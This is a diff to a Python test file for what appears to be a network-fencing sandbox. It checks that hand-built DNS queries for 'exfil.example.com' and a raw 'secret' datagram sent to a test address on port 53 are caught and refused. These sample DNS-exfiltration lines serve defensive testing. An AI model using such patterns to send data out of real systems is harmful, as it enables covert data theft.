@@ -75,8 +75,7 @@ def test_a_query_written_by_hand(fenced: Fenced) -> None:
     """What does not go by way of libc: no name server is ever asked, and the name is known all the same."""
     run = fenced.run(
         """
-        import errno, socket, struct
-        import pytest
+        import socket, struct
         from here import AWAY
 
         def query(name):
@@ -84,9 +83,8 @@ def test_a_query_written_by_hand(fenced: Fenced) -> None:
             return struct.pack("!6H", 7, 0x0100, 1, 0, 0, 0) + labels + b"\\0" + struct.pack("!2H", 1, 1)
 
         def test_unconnected():
-            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(OSError) as caught:
-                s.sendto(query("exfil.example.com"), (AWAY, 53))
-            assert caught.value.errno == errno.ECONNREFUSED
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+                s.sendto(query("exfil.example.com"), (AWAY, 53))  # and waits for no answer
 
         def test_connected():
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -97,12 +95,15 @@ def test_a_query_written_by_hand(fenced: Fenced) -> None:
             assert answer[3] & 15 == 3  # NXDOMAIN
 
         def test_by_tcp():
-            with socket.socket() as s, pytest.raises(PermissionError):
-                s.connect((AWAY, 53))
+            with socket.create_connection((AWAY, 53), timeout=10) as s:
+                message = query("exfil.example.com")
+                s.sendall(len(message).to_bytes(2, "big") + message)
+                answer = s.recv(512)
+            assert answer[5] & 15 == 3
 
         def test_no_query_at_all():
-            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s, pytest.raises(PermissionError):
-                s.sendto(b"secret", (AWAY, 53))
+            with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
+                s.sendto(b"secret", (AWAY, 53))  # it goes no further than to the fence
 
         def test_no_query_at_all_connected():
             with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
@@ -115,7 +116,7 @@ def test_a_query_written_by_hand(fenced: Fenced) -> None:
     )
     run.refused("test_unconnected", "resolve exfil.example.com")
     run.refused("test_connected", "resolve exfil.example.com")
-    run.refused("test_by_tcp", "connect 198.51.100.7:53/tcp")
+    run.refused("test_by_tcp", "resolve exfil.example.com")
     run.refused("test_no_query_at_all", "connect 198.51.100.7:53/udp")
     both = run.attempts("test_no_query_at_all_connected")
     assert [v.what for v in both] == ["connect 198.51.100.7:53/udp", "resolve exfil.example.com"], run
